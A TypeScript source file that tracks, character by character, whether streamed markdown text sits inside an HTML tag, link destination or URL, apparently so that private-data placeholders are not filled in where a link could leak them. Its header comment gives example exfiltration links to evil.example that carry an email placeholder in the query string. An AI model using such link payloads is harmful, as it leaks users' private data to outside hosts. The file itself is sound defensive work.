/**
 * Whether the text written so far leaves the next character inside something the markdown renderer
 * (lib/markdown) or a browser could read as part of a link target, whatever whitespace came before:
 * - inside `<…>`: an HTML tag (its attribute values may hold spaces, tabs and line breaks, which a
 *   browser strips or percent-encodes, so `href="https://evil.example/?u=\n[EMAIL_1]"` still carries
 *   the value), an autolink, or an angle-bracket destination (`[v](<https://evil.example/?q= …>)`,
 *   `[v]: <…>`), which may hold spaces;
 * - inside the parentheses of an inline link or image, from `](` to its closing `)`, title included;
 * - in a word that looks like a URL (`=`, `/`, `?`, `&`, `#`, `%`, `](`, or starting `www.`): a bare
 *   URL, an autolink, a link destination without `<…>` (none of which can hold whitespace).
 * A blank line ends all of these (a paragraph cannot continue past one, so neither can a tag or a
 * link). Backslash escapes are honoured. It errs on the side of "inside": a stray `<` in prose
 * (`a<b`) keeps the rest of its paragraph inside, which only means a placeholder is shown as written.
 *
 * A word ends at the whitespace that ends a link destination or an autolink (space, tab, line
 * break, form feed); other spaces (no-break, em space…) do not end it, as a URL may carry them.
 * Linear: each character is looked at once, and the state is a few fields.
 */
/** Characters that make a word look like part of a URL. */
const URL_MARKS = "=/?&#%";

export class LinkContext {
  /** Inside `<…>`. */
  #angle = false;
  /** The last character was an unescaped `<`: the next one decides whether a tag or autolink opens. */
  #opening = false;
  /** Inside a quoted attribute value of the tag: the quote character. */
  #quote = "";
  /** Depth inside an inline link's `(…)`. */
  #parens = 0;
  /** The last character was an unescaped backslash. */
  #escaped = false;
  #previous = "";
  #lastNonSpace = "";
  /** Line breaks since the last character that was not whitespace: two make a blank line. */
  #breaks = 0;
  /** The current word (since the last whitespace) looks like a URL. */
  #urlWord = false;
  /** The current word's first characters, up to four (to see "www."). */
  #wordHead = "";

  /** The next character would be part of a URL, a tag, an angle-bracket target or an inline link's parentheses. */
  get inside(): boolean {
    return this.#urlWord || this.#angle || this.#opening || this.#parens > 0;
  }

  feed(text: string): void {
    for (const c of text) this.#step(c);
  }

  #step(c: string): void {
    if (c === " " || c === "\t" || c === "\n" || c === "\r" || c === "\f") {
      this.#opening = false;
      this.#escaped = false;
      this.#urlWord = false;
      this.#wordHead = "";
      if (c === "\n" && ++this.#breaks >= 2) this.#reset();
      this.#previous = c;
      return;
    }
    this.#breaks = 0;
    if (this.#wordHead.length < 4) {
      this.#wordHead += c.toLowerCase();
      if (this.#wordHead === "www.") this.#urlWord = true;
    }
    if (URL_MARKS.includes(c) || (c === "(" && this.#previous === "]")) this.#urlWord = true;
    const escaped = this.#escaped;
    this.#escaped = c === "\\" && !escaped;
    if (this.#opening) {
      this.#opening = false;
      this.#angle = true;
    }
    if (escaped) {
      // An escaped character is literal in markdown; inside a tag it is only text.
    } else if (this.#angle) {
      if (this.#quote !== "") {
        if (c === this.#quote) this.#quote = "";
      } else if ((c === '"' || c === "'") && this.#lastNonSpace === "=") this.#quote = c;
      else if (c === ">") this.#angle = false;
    } else if (c === "<") this.#opening = true;
    else if (this.#parens > 0) {
      if (c === "(") this.#parens++;
      else if (c === ")") this.#parens--;
    } else if (c === "(" && this.#previous === "]") this.#parens = 1;
    this.#previous = c;
    this.#lastNonSpace = c;
  }

  #reset(): void {
    this.#angle = false;
    this.#opening = false;
    this.#quote = "";
    this.#parens = 0;
  }
}
